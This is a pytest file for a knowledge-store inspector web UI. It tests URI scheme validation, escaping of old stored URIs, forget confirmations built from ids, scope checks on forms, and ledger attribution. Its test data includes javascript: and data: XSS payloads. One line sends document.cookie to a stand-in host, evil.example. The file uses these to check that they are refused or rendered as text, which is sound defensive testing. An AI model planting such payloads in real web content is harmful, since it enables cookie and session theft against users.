"""The inspector acts as the key's one principal and shows nothing a URL or a stored string can turn against the
curator (issue 24 §5): a source uri is refused unless http(s)/urn/mailto on every surface and an old one renders as
text; the forget confirmation is built from the target id alone; every form refuses a key without its scope; the
ledger records the key, and the form's `on behalf of` apart."""

from __future__ import annotations

import html
import re

import pytest
from markupsafe import escape

from credo.client import Client
from credo.schema.api_keys import SCOPES
from credo.schema.errors import InvalidInput
from credo.services.access import api_keys
from credo.services.verify.review import ReviewQueue
from credo.store import Store
from tests.api.conftest import new_tenant
from tests.api.inspector.test_inspector_headers import flat
from tests.api.inspector.test_inspector_pages import csrf_of, login
from tests.api.test_scopes import footprint


class _Q:  # raw Cypher for the tests only
    def __init__(self, text: str) -> None:
        self.text = text


BAD_URIS = ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)",
            "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x"]


def store_of(db, tenant) -> Store:
    return Store(db, tenant=tenant.name, embedder=None, _owns_db=False)


def token_of(page: str) -> str:
    """The session's CSRF token, from the logout form every logged-in page carries."""
    return csrf_of(page.split('action="/ui/logout"')[1])


# -- the uri rule ----------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("surface", ["store", "rest", "client"])
@pytest.mark.parametrize("uri", BAD_URIS)
def test_add_source_refuses_other_uri_schemes_on_every_surface(request, neo4j_db, api, surface, uri):
    tenant = new_tenant(neo4j_db)
    before = footprint(neo4j_db, tenant.name)
    if surface == "rest":
        answer = api.post("/v1/sources", json={"kind": "document", "text": "runbook", "uri": uri},
                          headers=tenant.headers)
        assert answer.status_code == 422 and answer.json()["field"] == "uri", answer.text
    else:
        handle = (store_of(neo4j_db, tenant) if surface == "store"
                  else Client(request.getfixturevalue("live_server").url, tenant.key))
        with pytest.raises(InvalidInput) as refused:
            handle.add_source("document", "runbook", uri=uri)
        assert refused.value.field == "uri"
    assert footprint(neo4j_db, tenant.name) == before


@pytest.mark.parametrize("uri", ["https://example.com/runbook", "http://wiki/x", "urn:isbn:0451450523",
                                 "mailto:dpo@example.com"])
def test_add_source_accepts_http_https_urn_and_mailto(api, tenant_a, uri):
    answer = api.post("/v1/sources", json={"kind": "document", "text": "runbook", "uri": uri}, headers=tenant_a.headers)
    assert answer.status_code == 201 and answer.json()["result"]["uri"] == uri


def test_the_why_view_links_only_http_sources_and_shows_an_old_javascript_uri_as_text(api, neo4j_db, tenant_a):
    # given a fact citing three sources: https, urn, and one whose uri was stored before the rule (javascript:)
    store = store_of(neo4j_db, tenant_a)
    fact = store.add_fact("Acme", "plan", "gold", valid_from="2024-01-01", object_is_entity=False)
    sources = {}
    uris = (("https", "https://example.com/a"), ("urn", "urn:isbn:0451450523"), ("old", "https://old.example"))
    for name, uri in uris:
        sources[name] = store.add_source("document", f"the {name} runbook", title=f"{name} doc", uri=uri)
        store.cite(fact.fact_id, sources[name].source_id)
    evil = "javascript:fetch('//evil.example/?'+document.cookie)"
    neo4j_db.query(_Q("MATCH (s:Source {source_id: $id}) SET s.uri = $uri RETURN s.source_id AS id"), write=True,
                   id=sources["old"].source_id, uri=evil)
    # when the curator opens the why-view
    login(api, tenant_a)
    page = api.get(f"/ui/facts/{fact.fact_id}").text
    # then only the https source is a link; the urn and the old javascript: uri are text
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert "https://example.com/a" in hrefs
    assert not [h for h in hrefs if html.unescape(h).lower().lstrip().startswith(("javascript", "urn:", "data:"))]
    assert f'<span class="uri">{escape(evil)}</span>' in page
    assert '<span class="uri">urn:isbn:0451450523</span>' in page


# -- the forget confirmation -------------------------------------------------------------------------------------------
@pytest.fixture
def two_entities(api, neo4j_db, tenant_a):
    """Acme and Globex with a fact each, a source, a summary; the ids the confirmation takes."""
    store = store_of(neo4j_db, tenant_a)
    acme = store.add_fact("Acme", "owned_by", "Alice", valid_from="2024-01-01")
    globex = store.add_fact("Globex", "owned_by", "Hank", valid_from="2024-01-01")
    source = store.add_source("document", "the org chart", title="Org chart 2024", uri="https://example.com/org")
    summary = store.add_summary("Acme's owner", derived_from=[acme.fact_id])
    login(api, tenant_a)
    ids = {name: api.get(f"/ui/entities/{name}.json").json()["entity_id"] for name in ("Acme", "Globex")}
    return {"acme": ids["Acme"], "globex": ids["Globex"], "acme_fact": acme.fact_id, "globex_fact": globex.fact_id,
            "source": source.source_id, "summary": summary.summary_id, "store": store}


def test_the_forget_confirmation_names_what_its_button_forgets_whatever_else_the_url_says(api, two_entities):
    ids = two_entities
    # when the confirmation for Acme's id is opened with another entity's name in the URL (the old `entity` param)
    page = api.get("/ui/forget", params={"target": ids["acme"], "entity": "Globex"}).text
    preview = api.get("/ui/forget.json", params={"target": ids["acme"], "entity": "Globex"}).json()
    # then it names Acme and Acme's fact, never Globex, and its button posts Acme's id
    assert preview["kind"] == "entity" and preview["title"] == "Acme" and preview["target_id"] == ids["acme"]
    assert any("Acme owned_by Alice" in line for line in preview["reached"])
    assert "Globex" not in page and "Hank" not in page
    assert f'name="target" value="{ids["acme"]}"' in page and 'id="forget-title">Acme<' in page
    # when the curator confirms, then Acme is what is forgotten, and Globex stays
    done = api.post("/ui/forget", data={"target": ids["acme"], "reason": "asked", "csrf": csrf_of(page)},
                    follow_redirects=False)
    assert done.status_code == 303 and done.headers["location"] == f"/ui/forget/{ids['acme']}?flash=forgotten"
    store = ids["store"]
    assert store.history(ids["acme_fact"])[-1].state == "forgotten"
    assert [f.object_name for f in store.facts("Globex")] == ["Hank"]


@pytest.mark.parametrize(("which", "kind", "title", "reaches"), [
    ("acme_fact", "fact", "Acme owned_by Alice", "summary “Acme's owner” (rebuilt without it)"),
    ("source", "source", "Org chart 2024", "the source's text, title, uri and author"),
    ("summary", "summary", "Acme's owner", "the text of summary “Acme's owner” in every version"),
    ("globex", "entity", "Globex", "fact “Globex owned_by Hank”"),
])
def test_every_kind_of_forget_target_is_previewed_from_its_id_alone(api, two_entities, which, kind, title, reaches):
    target = two_entities[which]
    preview = api.get("/ui/forget.json", params={"target": target}).json()
    assert (preview["kind"], preview["title"], preview["target_id"]) == (kind, title, target)
    assert reaches in preview["reached"]
    page = api.get("/ui/forget", params={"target": target})
    assert page.status_code == 200 and f'name="target" value="{target}"' in page.text


@pytest.mark.parametrize("target", ["f_missing", "e_missing", "s_missing", "sum_missing", "v_missing", "garbage"])
def test_an_unknown_forget_target_answers_404_not_a_promise(api, tenant_a, target):
    login(api, tenant_a)
    page = api.get("/ui/forget", params={"target": target})
    assert page.status_code == 404 and 'id="confirm-forget"' not in page.text
    assert api.get("/ui/forget.json", params={"target": target}).status_code == 404


def test_another_tenants_forget_target_answers_404(api, neo4j_db, two_entities, tenant_b):
    login(api, tenant_b)
    for which in ("acme", "acme_fact", "source", "summary"):
        answer = api.get("/ui/forget", params={"target": two_entities[which]})
        assert answer.status_code == 404 and "Acme" not in answer.text and "Org chart" not in answer.text


# -- the one principal: scopes, clearance, the acting key --------------------------------------------------------
def seeded(db, tenant: str) -> dict[str, str]:
    """A conflict, a stale rule and a plain fact: something for every form to act on."""
    store = Store(db, tenant=tenant, embedder=None, _owns_db=False)
    store.add_fact("Acme", "owned_by", "Alice", valid_from="2024-01-01")
    store.add_fact("Acme", "owned_by", "Bob", valid_from="2024-08-01")
    premise = store.add_fact("Acme", "plan", "gold", valid_from="2024-01-01", object_is_entity=False)
    rule = store.add_fact("Acme", "discount", "10%", valid_from="2024-01-01", object_is_entity=False,
                          depends_on=[premise.fact_id])
    store.retract_fact(premise.fact_id, reason="wrong plan")
    plain = store.add_fact("Globex", "plan", "silver", valid_from="2024-01-01", object_is_entity=False)
    candidate = store.add_fact("Initech", "plan", "bronze", valid_from="2024-01-01", object_is_entity=False)
    store.quarantine(fact_id=candidate.fact_id, reason="unverified", actor="security")
    store.release(fact_id=candidate.fact_id, reason="checked", actor="security")  # back to candidate: awaits admission
    review = Store(db, tenant=tenant, embedder=None, _owns_db=False, verifier=ReviewQueue())
    item = review.verify(plain.fact_id).review_item  # waits in the review queue
    return {"conflict": store.conflicts()[0].conflict_id, "rule": rule.fact_id, "plain": plain.fact_id,
            "candidate": candidate.fact_id, "review": item.item_id}


FORMS = {  # every inspector form that writes: the scope its operation needs, and what it posts
    "/ui/conflicts/{conflict_id}/resolve": ("curate", lambda ids: (f"/ui/conflicts/{ids['conflict']}/resolve",
                                                                   {"decision": "succession", "at": "2024-08-01",
                                                                    "reason": "moved"})),
    "/ui/facts/{fact_id}/reverify": ("curate", lambda ids: (f"/ui/facts/{ids['rule']}/reverify",
                                                           {"outcome": "holds", "note": "checked"})),
    "/ui/facts/{fact_id}/admit": ("curate", lambda ids: (f"/ui/facts/{ids['candidate']}/admit", {"by": "maria"})),
    "/ui/facts/{fact_id}/reject": ("curate", lambda ids: (f"/ui/facts/{ids['candidate']}/reject",
                                                         {"reason": "wrong"})),
    "/ui/forget": ("forget", lambda ids: ("/ui/forget", {"target": ids["plain"], "reason": "asked"})),
    "/ui/reviews/{item_id}": ("curate", lambda ids: (f"/ui/reviews/{ids['review']}", {"decision": "approve"})),
}


READING_FORMS = {  # forms that post (CSRF) to run a read whose answer is the page, not a redirect: the scope it needs
    "/ui/reflect": "write",  # writes only its ledger event (tests/api/inspector/test_memory_pages.py)
}


def test_the_form_table_names_every_inspector_form_that_writes(api):
    from fastapi.routing import APIRoute

    posts = {r.path for r in flat(api.app.routes) if isinstance(r, APIRoute) and r.path.startswith("/ui")
             and "POST" in r.methods} - {"/ui/login", "/ui/logout"}
    assert posts == set(FORMS) | set(READING_FORMS)


@pytest.mark.parametrize("form", sorted(FORMS))
def test_every_inspector_form_refuses_a_key_without_its_scope_and_writes_nothing(api, neo4j_db, form):
    scope, post = FORMS[form]
    # given a tenant with something to act on, and a key holding every scope but the form's
    caller = new_tenant(neo4j_db, scopes=tuple(s for s in SCOPES if s != scope))
    path, fields = post(seeded(neo4j_db, caller.name))
    login(api, caller)
    token = token_of(api.get("/ui/queues").text)
    before = footprint(neo4j_db, caller.name)
    # when the form is posted, then a 403 page names the scope, and nothing is written
    refused = api.post(path, data=fields | {"csrf": token}, follow_redirects=False)
    assert refused.status_code == 403 and refused.headers["content-type"].startswith("text/html")
    assert "forbidden" in refused.text and repr(scope) in html.unescape(refused.text)
    assert footprint(neo4j_db, caller.name) == before
    # and a key of the same tenant holding the scope gets past the check
    full = api_keys.create_key(neo4j_db, tenant=caller.name, scopes=[scope, "read"])
    api.cookies.clear()
    login(api, type(caller)(name=caller.name, key=full.secret, key_id=full.key.key_id))
    done = api.post(path, data=fields | {"csrf": token_of(api.get("/ui/queues").text)}, follow_redirects=False)
    assert done.status_code == 303, re.sub(r"\s+", " ", done.text)[-400:]


def _forget_events(store: Store, target: str) -> list:
    return [e for e in store.audit(id=target, limit=50).items if e.operation == "forget"]


def test_the_forget_form_records_the_acting_key_and_who_it_was_for(api, neo4j_db, tenant_a):
    store = store_of(neo4j_db, tenant_a)
    named = store.add_fact("Acme", "plan", "gold", valid_from="2024-01-01", object_is_entity=False)
    plain = store.add_fact("Globex", "plan", "silver", valid_from="2024-01-01", object_is_entity=False)
    login(api, tenant_a)
    for fact, behalf in ((named, "Maria Rossi (DPO)"), (plain, "")):
        page = api.get("/ui/forget", params={"target": fact.fact_id}).text
        assert 'for="on_behalf_of"' in page
        api.post("/ui/forget", data={"target": fact.fact_id, "reason": "asked", "on_behalf_of": behalf,
                                     "csrf": csrf_of(page)}, follow_redirects=False)
    [first] = _forget_events(store, named.fact_id)
    [second] = _forget_events(store, plain.fact_id)
    # the ledger's actor is the key, always; `on behalf of` is what the curator named, or the key itself
    assert first.actor == second.actor == f"key:{tenant_a.key_id}"
    assert first.on_behalf_of == "Maria Rossi (DPO)" and second.on_behalf_of == "the curator at the inspector"
    assert "inspector:" not in f"{first.actor} {first.on_behalf_of} {second.actor} {second.on_behalf_of}"


def test_inspector_pages_read_with_the_keys_clearance(api, neo4j_db):
    tenant = new_tenant(neo4j_db)
    store = Store(neo4j_db, tenant=tenant.name, embedder=None, _owns_db=False)
    store.add_fact("Acme", "plan", "gold", valid_from="2024-01-01", object_is_entity=False, sensitivity="public")
    store.add_fact("Acme", "merger_codename", "Bluebird", valid_from="2024-01-01", object_is_entity=False,
                   sensitivity="secret")
    public = api_keys.create_key(neo4j_db, tenant=tenant.name, clearance="public", scopes=["read"])
    login(api, type(tenant)(name=tenant.name, key=public.secret, key_id=public.key.key_id))
    package = api.get("/ui/context.json", params={"query": "Acme"}).json()
    shown = [i["statement"] for part in ("current", "historical", "open") for i in package[part]]
    assert shown and all("Bluebird" not in s for s in shown)
    assert "Bluebird" not in api.get("/ui/context", params={"query": "Acme"}).text


def test_the_why_page_of_a_key_without_admin_shows_the_rest_and_names_what_it_leaves_out(api, neo4j_db):
    tenant = new_tenant(neo4j_db, scopes=("curator",))
    fact = Store(neo4j_db, tenant=tenant.name, embedder=None, _owns_db=False).add_fact(
        "Acme", "plan", "gold", valid_from="2024-01-01", object_is_entity=False)
    login(api, tenant)
    page = api.get(f"/ui/facts/{fact.fact_id}")
    assert page.status_code == 200 and "Acme plan gold" in page.text
    assert "needs the &#39;admin&#39; scope" in page.text
